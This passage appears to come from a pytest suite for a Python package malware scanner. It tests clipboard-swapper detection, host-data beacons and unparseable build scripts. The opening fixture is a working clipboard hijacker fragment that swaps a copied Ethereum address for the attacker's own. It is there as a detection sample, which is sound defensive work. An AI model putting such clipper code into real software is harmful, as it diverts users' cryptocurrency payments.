        "def swap():\n    text = subprocess.check_output(['pbpaste']).decode()\n"
        "    if re.match(r'^0x[a-fA-F0-9]{40}$', text):\n"
        "        subprocess.run(['pbcopy'], input=MINE.encode())\n"
    ),
}


@pytest.mark.parametrize("name", sorted(_CLIPPERS))
def test_a_clipboard_swapper_is_found_whatever_clipboard_it_uses(name: str) -> None:
    hits = analyse(_CLIPPERS[name]).hits
    assert [h.kind for h in hits if h.rule == "credential-access" and h.kind == "clipper"]


def test_a_clipboard_tool_that_names_no_wallet_is_no_swapper() -> None:
    """Reading the clipboard and writing it back cleaned is a clipboard tool; an
    address read from it (``xclip ... -o``) and checked is a paste, not a swap."""
    cleaner = (
        "import pyperclip\n"
        "def clean():\n    text = pyperclip.paste()\n    pyperclip.copy(text.strip())\n"
    )
    assert not [h for h in analyse(cleaner).hits if h.kind == "clipper"]
    paste = (
        "import re, subprocess\n"
        "def pasted():\n"
        "    text = subprocess.check_output(['xclip', '-selection', 'clipboard', '-o'])\n"
        "    return re.match(rb'^0x[a-fA-F0-9]{40}$', text)\n"
    )
    assert not [h for h in analyse(paste).hits if h.kind == "clipper"]


@pytest.mark.parametrize(("deferred", "pooled"), [(False, False), (True, True)])
def test_host_data_sent_from_a_deeper_module_counts_where_it_runs(
    deferred: bool, pooled: bool
) -> None:
    """Host data collected and sent (``send-host-data``) by code of an imported module
    that runs at import counts outside the library pool (a beacon); in a function
    nothing runs at import it stays in the pool, as a library's sends do."""
    hit = Hit("install-time-code", "send-host-data", 2.0, 3, "", "collects host data", deferred)
    signal = scoring.place(hit, "pkg/_sync.py", "imported")
    assert signal is not None
    assert signal.spread is pooled
    network = scoring.place(
        Hit("install-time-code", "network", 5.0, 3, "", "post"), "x.py", "imported"
    )
    assert network is not None and network.spread  # (a send alone stays in the pool)


@pytest.mark.parametrize(
    "line",
    [
        "match_all := (x for x in [])",  # (a statement no Python parses yet)
        "print(f'{x!z}')",
    ],
)
def test_a_build_script_this_python_cannot_parse_is_not_analysed_and_blocks(
    tmp_path: Path, line: str
) -> None:
    """Code in the syntax of a newer Python (``type X = int`` before 3.12) runs
    there and is read line by line here: at install time that blocks, and says
    why."""
    path = sdist(tmp_path, {"setup.py": setup_py(line)})
    result = scan(path)
    unanalysed = [s for s in result.signals if s.kind == "unanalysed"]
    assert result.level == "block"
    assert unanalysed and "cannot parse it" in unanalysed[0].text


def test_a_python_2_build_script_is_no_unparsed_code(tmp_path: Path) -> None:
    """No Python 3 runs ``print 'x'``: nothing of it runs, nothing to block for."""
    path = sdist(tmp_path, {"setup.py": "from distutils.core import setup\nprint 'x'\nsetup()\n"})
    assert not [s for s in scan(path).signals if s.kind == "unanalysed"]


def test_imported_code_this_python_cannot_parse_is_read_line_by_line(tmp_path: Path) -> None:
    """Packages for newer Pythons use their syntax in their modules: read line by line,
    not blocked for it (see the README's known limits)."""
    path = wheel(tmp_path, {"demo/__init__.py": "match_all := (x for x in [])\nVALUE = 1\n"})
    result = scan(path)
    assert not [s for s in result.signals if s.kind == "unanalysed"]
    assert result.level == "clean"
